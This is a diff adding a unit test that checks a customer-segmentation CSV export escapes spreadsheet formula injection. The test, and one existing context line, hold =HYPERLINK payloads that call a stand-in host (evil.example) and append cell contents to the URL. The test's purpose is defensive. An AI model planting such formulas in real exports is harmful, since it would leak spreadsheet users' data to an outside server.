@@ -180,4 +180,26 @@ describe('segmentExportRows', () => {
 			`c3,"'=HYPERLINK(""http://evil.example"",""click"")",Ann,Potential Loyalist,4,5,5,regular,no,,400,5,10`
 		);
 	});
+
+	it('writes a customer id like =HYPERLINK(...) as inert text', () => {
+		const hostileId = '=HYPERLINK("http://evil.example/?"&A1,"Click me")';
+		const hostile = buildCustomerTable(
+			ordersFromRows([
+				{ customer: hostileId, order: 'h1', date: '2024-06-01', amount: 10 },
+				{ customer: 'plain', order: 'p1', date: '2024-06-02', amount: 20 }
+			])
+		);
+		const hostileRfm = scoreRfm(hostile);
+		const rows = segmentExportRows({
+			customers: hostile,
+			rfm: hostileRfm,
+			assignment: assignSegments(hostileRfm, DEFAULT_SEGMENT_RULES),
+			rules: DEFAULT_SEGMENT_RULES
+		});
+		const lines = toCsv(rows).split('\r\n');
+		const hostileLine = lines.find((line) => line.includes('HYPERLINK'));
+		expect(
+			hostileLine?.startsWith(`"'=HYPERLINK(""http://evil.example/?""&A1,""Click me"")",`)
+		).toBe(true);
+	});
 });
